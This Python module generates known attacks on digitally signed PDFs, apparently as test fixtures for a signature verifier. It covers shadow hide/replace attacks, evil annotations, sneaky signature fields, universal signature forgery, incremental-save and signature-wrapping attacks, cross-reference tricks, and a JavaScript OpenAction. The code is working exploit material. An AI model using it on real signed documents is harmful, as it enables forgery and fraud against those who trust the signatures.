"""Published attacks on signed PDFs, each as bytes appended to or changed in a signed file.

Classes: shadow attacks (hide, replace, hide and replace: Mainka, Mladenov, Rohlmann 2021), evil annotations and
sneaky signatures on certified files (EAA, SSA: 2021), universal forgery, incremental saving, signature wrapping
(USF, ISA, SWA: 2019), and tricks with cross references, duplicates and trailing bytes. One file, because it is one list:
`CONTENT` and `BYTES` name all that is known.
"""

import re
from collections.abc import Callable
from io import BytesIO

import typst
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

Attack = Callable[[bytes], bytes]
EVIL = b"BT /F1 40 Tf 100 400 Td (99 trieu) Tj ET"


def _updated(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter, number: int = 0) -> generic.DictionaryObject:
    return writer.find_page_for_modification(number)[0].get_object()


def _stream(data: bytes, **entries) -> generic.StreamObject:
    return generic.StreamObject(
        dict_data={pdf_name(f"/{key}"): value for key, value in entries.items()}, stream_data=data
    )


def _form(data: bytes = EVIL) -> generic.StreamObject:
    box = generic.ArrayObject([generic.FloatObject(side) for side in (0, 0, 500, 500)])
    return _stream(data, Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=box)


def _rect(*sides: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(side) for side in sides])


def _field(writer: IncrementalPdfFileWriter, name: str) -> generic.DictionaryObject:
    fields = (entry.get_object() for entry in writer.root["/AcroForm"]["/Fields"])
    return next(field for field in fields if field["/T"] == name)


# --- shadow attacks --------------------------------------------------------------------------------


def hide_page_content(pdf: bytes) -> bytes:
    """Hide: the content of a page is overwritten with nothing."""

    def change(writer):
        contents = _page(writer).raw_get("/Contents")
        writer.objects[contents.generation, contents.idnum] = _stream(b"")

    return _updated(pdf, change)


def replace_page_content(pdf: bytes) -> bytes:
    """Replace: the page shows another stream."""

    def change(writer):
        page = _page(writer)
        page["/Contents"] = writer.add_object(_stream(EVIL))
        writer.update_container(page)

    return _updated(pdf, change)


def replace_font(pdf: bytes) -> bytes:
    """Replace: glyphs of the page's font become others."""

    def change(writer):
        fonts = _page(writer)["/Resources"]["/Font"]
        name = next(iter(fonts))
        font = fonts.raw_get(name)
        writer.objects[font.generation, font.idnum] = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Symbol"),
            }
        )

    return _updated(pdf, change)


def add_page(pdf: bytes) -> bytes:
    def change(writer):
        page = generic.DictionaryObject(
            {pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): _rect(0, 0, 595, 842)}
        )
        writer.insert_page(page)

    return _updated(pdf, change)


def hide_and_replace_pages(pdf: bytes) -> bytes:
    """Hide and replace: the catalogue points to another tree of pages."""

    def change(writer):
        other = PdfFileReader(BytesIO(typst.compile(b"Noi dung khac")))
        pages = writer.import_object(other.root["/Pages"])
        writer.root["/Pages"] = writer.add_object(pages)
        writer.update_root()

    return _updated(pdf, change)


def hide_an_orphan(pdf: bytes) -> bytes:
    """Hide and replace, first half: a second content waits unused in the file."""
    return _updated(pdf, lambda writer: writer.add_object(_stream(EVIL)) and writer.update_root())


def activate_the_orphan(pdf: bytes) -> bytes:
    """Hide and replace, second half: the page is pointed to what was waiting."""

    def change(writer):
        reader = writer.prev
        refs = set().union(
            *(reader.xrefs.explicit_refs_in_revision(number) for number in range(reader.total_revisions))
        )
        waiting = next(
            ref
            for ref in refs
            if isinstance(reader.get_object(ref), generic.StreamObject)
            and reader.get_object(ref).data == EVIL
        )
        page = _page(writer)
        page["/Contents"] = generic.IndirectObject(waiting.idnum, waiting.generation, writer)
        writer.update_container(page)

    return _updated(pdf, change)


def overwrite_form_value(pdf: bytes) -> bytes:
    """Replace through form values: a number that was written is written anew."""

    def change(writer):
        field = _field(writer, "so")
        field["/V"] = pdf_string("99")
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_form())})
        writer.update_container(field)

    return _updated(pdf, change)


def redraw_form_value(pdf: bytes) -> bytes:
    """Replace through form values: the value stays, what is seen of it changes."""

    def change(writer):
        field = _field(writer, "so")
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_form())})
        writer.update_container(field)

    return _updated(pdf, change)


def redraw_in_place(pdf: bytes) -> bytes:
    def change(writer):
        look = _field(writer, "so")["/AP"].raw_get("/N")
        writer.objects[look.generation, look.idnum] = _form()

    return _updated(pdf, change)


def draw_fields_anew(pdf: bytes) -> bytes:
    """Viewers are told to draw all values anew, with a font that came later."""

    def change(writer):
        form = writer.root["/AcroForm"]
        form["/NeedAppearances"] = generic.BooleanObject(True)
        form["/DR"] = generic.DictionaryObject()
        writer.update_container(form)

    return _updated(pdf, change)


def fill_number(pdf: bytes) -> bytes:
    """A reserved field is filled by somebody who may not."""
    return overwrite_form_value(pdf)


# --- annotations and fields ------------------------------------------------------------------------


def _annotate(pdf: bytes, subtype: str) -> bytes:
    def change(writer):
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): _rect(50, 50, 550, 800),
                pdf_name("/Contents"): pdf_string("99 triệu"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(_form())}),
            }
        )
        writer.register_annotation(writer.find_page_for_modification(0)[0], writer.add_object(note))

    return _updated(pdf, change)


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a note that covers the page."""
    return _annotate(pdf, "/FreeText")


def evil_stamp(pdf: bytes) -> bytes:
    return _annotate(pdf, "/Stamp")


def evil_redaction(pdf: bytes) -> bytes:
    return _annotate(pdf, "/Redact")


def sneaky_signature_field(pdf: bytes) -> bytes:
    """SSA: a new signature field whose look covers the page."""

    def change(writer):
        append_signature_field(writer, SigFieldSpec("lam", box=(0, 0, 595, 842), empty_field_appearance=True))

    return _updated(pdf, change)


def move_field(pdf: bytes) -> bytes:
    def change(writer):
        field = _field(writer, "ky_2")
        field["/Rect"] = _rect(0, 0, 595, 842)
        writer.update_container(field)

    return _updated(pdf, change)


def draw_in_empty_field(pdf: bytes) -> bytes:
    """Something is drawn where nobody signed yet."""

    def change(writer):
        field = _field(writer, "ky_2")
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_form())})
        writer.update_container(field)

    return _updated(pdf, change)


def redraw_signature(pdf: bytes) -> bytes:
    """Another name is drawn over a signature that is there."""

    def change(writer):
        field = _field(writer, "ky_1")
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_form())})
        writer.update_container(field)

    return _updated(pdf, change)


def remove_signature(pdf: bytes) -> bytes:
    def change(writer):
        field = _field(writer, "ky_1")
        del field["/V"]
        writer.update_container(field)

    return _updated(pdf, change)


def duplicate_field(pdf: bytes) -> bytes:
    """A second field of the same name."""

    def change(writer):
        fields = writer.root["/AcroForm"]["/Fields"]
        copy = generic.DictionaryObject(_field(writer, "ky_2"))
        fields.append(writer.add_object(copy))
        writer.update_container(fields)

    return _updated(pdf, change)


def open_action(pdf: bytes) -> bytes:
    def change(writer):
        writer.root["/OpenAction"] = generic.DictionaryObject(
            {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
        )
        writer.update_root()

    return _updated(pdf, change)


# --- forged and wrapped signatures -----------------------------------------------------------------


def forge_without_byte_range(pdf: bytes) -> bytes:
    """USF: the range of signed bytes is gone; a careless verifier finds nothing to object to."""
    return re.sub(rb"/ByteRange \[", b"/ByteRangX [", pdf, count=1)


def forge_without_contents(pdf: bytes) -> bytes:
    """USF: the signature itself is gone."""
    return pdf.replace(b"/Contents <", b"/Contentz <", 1)


def forge_with_zeros(pdf: bytes) -> bytes:
    """USF: the signature is nothing but zeros."""
    return re.sub(
        rb"(/Contents <)([0-9a-fA-F]{500,})(>)",
        lambda found: found[1] + b"0" * len(found[2]) + found[3],
        pdf,
        count=1,
    )


def hide_bytes_after_the_signature(pdf: bytes) -> bytes:
    """Bytes are put into the room that is left behind the last signature."""
    start = pdf.rindex(b"0" * 200 + b">")
    return pdf[: start + 100] + b"de" * 20 + pdf[start + 140 :]


def forge_with_negative_range(pdf: bytes) -> bytes:
    return re.sub(rb"/ByteRange \[0 ", b"/ByteRange [-", pdf, count=1)


def save_incrementally(pdf: bytes) -> bytes:
    """ISA: a body is appended with its own table."""
    return replace_page_content(pdf)


def save_without_table(pdf: bytes) -> bytes:
    """ISA: a body is appended without a table or a trailer, hoping that a viewer repairs it."""
    found = re.search(rb"(\d+) 0 obj\s*<<[^>]*?/Type\s*/Page\b", pdf)
    number = found[1] if found else b"4"
    return pdf + b"\n" + number + b" 0 obj\n<< /Type /Page /MediaBox [0 0 9 9] >>\nendobj\n"


def wrap(pdf: bytes) -> bytes:
    """SWA: the second signed part is moved to the end and other bytes are put into the hole."""
    found = list(re.finditer(rb"/ByteRange \[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))[-1]
    start, rest = (int(found[part]) for part in (2, 3))
    evil = b"\n9999 0 obj\n<< /Type /Catalog >>\nendobj\n" * 8
    moved = found[0].replace(found[2], str(start + len(evil)).encode())
    moved = (moved[:-1].rstrip() + b"]").ljust(len(found[0]))[: len(found[0])]
    head = pdf[: found.start()] + moved + pdf[found.end() : start]
    return head + evil + pdf[start : start + rest]


def trail_garbage(pdf: bytes) -> bytes:
    return pdf + b"\nrac" * 40


def trail_another_file(pdf: bytes) -> bytes:
    """A whole other document behind the signed one."""
    return pdf + typst.compile(b"Noi dung khac")


def repeat_object(pdf: bytes) -> bytes:
    """An object number twice in one update: which one counts depends on the program."""
    changed = replace_page_content(pdf)
    tail = changed[len(pdf) :]
    number = re.search(rb"(\d+) 0 obj", tail)[1]
    return _with_own_xref(
        pdf, [(int(number), b"<< /Type /Page >>"), (int(number), b"<< /Type /Page /Evil 1 >>")]
    )


def point_elsewhere(pdf: bytes) -> bytes:
    """A table appended whose entry for the page leads into the middle of another object."""
    reader = PdfFileReader(BytesIO(pdf))
    number = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    return _with_own_xref(pdf, [(number, None)])


def free_object(pdf: bytes) -> bytes:
    """A table appended that declares the page's content free."""
    reader = PdfFileReader(BytesIO(pdf))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    return _with_own_xref(pdf, [(page.raw_get("/Contents").idnum, b"free")])


def mix_tables(pdf: bytes) -> bytes:
    """Hybrid: a table for old programs and a stream for new ones, saying different things."""
    return _with_own_xref(pdf, [(1, b"<< >>")], extra=b" /XRefStm 20")


def _with_own_xref(pdf: bytes, objects: list[tuple[int, bytes | None]], extra: bytes = b"") -> bytes:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    before = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root, size = reader.root_ref.idnum, reader.trailer["/Size"]
    body, rows = bytearray(b"\n"), []
    for number, content in objects:
        offset = len(pdf) + len(body)
        if content == b"free":
            rows.append(b"%d 1\n0000000000 00001 f \n" % number)
        elif content is None:
            rows.append(b"%d 1\n%010d 00000 n \n" % (number, 100))
        else:
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
            rows.append(b"%d 1\n%010d 00000 n \n" % (number, offset))
    table = len(pdf) + len(body)
    body += b"xref\n" + b"".join(rows)
    body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\n" % (size, root, before, extra)
    return pdf + bytes(body) + b"startxref\n%d\n%%%%EOF\n" % table


CONTENT: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        hide_page_content,
        replace_page_content,
        replace_font,
        add_page,
        hide_and_replace_pages,
        redraw_form_value,
        redraw_in_place,
        draw_fields_anew,
        evil_annotation,
        evil_stamp,
        evil_redaction,
        sneaky_signature_field,
        move_field,
        draw_in_empty_field,
        redraw_signature,
        remove_signature,
        duplicate_field,
        open_action,
    )
}
"""Each appends a revision with a table of its own."""

BYTES: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        forge_without_byte_range,
        forge_without_contents,
        forge_with_zeros,
        hide_bytes_after_the_signature,
        forge_with_negative_range,
        save_incrementally,
        save_without_table,
        wrap,
        trail_garbage,
        trail_another_file,
        repeat_object,
        point_elsewhere,
        free_object,
        mix_tables,
    )
}
"""Each changes or appends bytes by hand."""
